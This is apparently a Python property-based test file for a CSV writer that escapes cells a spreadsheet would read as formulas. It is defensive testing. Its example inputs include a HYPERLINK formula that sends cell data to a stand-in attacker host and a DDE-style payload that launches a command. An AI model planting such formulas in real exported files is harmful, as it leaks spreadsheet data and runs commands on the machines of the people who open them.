"""CSV cells a spreadsheet reads as data: any text comes back from csv.reader as its escaped cell,
no cell starts like a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

from hypothesis import example, given
from hypothesis import strategies as st

from service.csv_cells import FORMULA_STARTS, SafeCsvWriter, escape_cell

# Text weighted towards what matters: formula characters, delimiters, quotes and line breaks.
risky = st.text(alphabet=st.sampled_from([*FORMULA_STARTS, ",", ";", '"', "'", "\n", " ", "a", "1", "é"]))
texts = st.one_of(st.text(), risky, st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS),
                                              st.text()))


def written(row: list[object], lineterminator: str = "\r\n") -> str:
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator).writerow(row)
    return out.getvalue()


@given(st.lists(texts, min_size=1, max_size=5))
@example(['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "\t=1",
          "\r=1", "two\nlines", "a;=1+1", 'say "hi"'])
def test_any_text_comes_back_as_its_escaped_cell_and_none_starts_like_a_formula(cells: list[str]) -> None:
    for terminator in ("\r\n", "\n"):
        (back,) = list(csv.reader(io.StringIO(written(list(cells), terminator), newline="")))
        assert back == [escape_cell(cell) for cell in cells]
        assert not any(cell.startswith(FORMULA_STARTS) for cell in back)
        # the escape only adds the quote: a reader who drops it has the text again
        assert [cell[1:] if original.startswith(FORMULA_STARTS) else cell
                for cell, original in zip(back, cells, strict=True)] == cells


@given(texts)
def test_every_text_cell_is_quoted_so_no_delimiter_inside_it_splits_it(cell: str) -> None:
    line = written([cell])
    assert line.startswith('"') and line.endswith('"\r\n')
    # read with the delimiter many spreadsheets guess, it is still one cell
    assert list(csv.reader(io.StringIO(line, newline=""), delimiter=";")) == [[escape_cell(cell)]]


@example(2**53 + 1)
@example(-(10**30))  # beyond a float's exact integers: read back as the integer it is
@given(st.floats(allow_nan=False) | st.integers())
def test_numbers_are_written_as_numbers_even_when_negative(number: float) -> None:
    line = written([number, "label"])
    assert line.split(",", 1)[0] == (repr(number) if isinstance(number, float) else str(number))
    read_back = next(csv.reader(io.StringIO(line)))[0]
    assert (float(read_back) if isinstance(number, float) else int(read_back)) == number


def test_none_is_an_empty_cell_and_other_values_are_escaped_as_their_text() -> None:
    class Formula:
        def __str__(self) -> str:
            return "=1+1"

    assert written([None, True, "", Formula()], "\n") == '"",True,"","\'=1+1"\n'
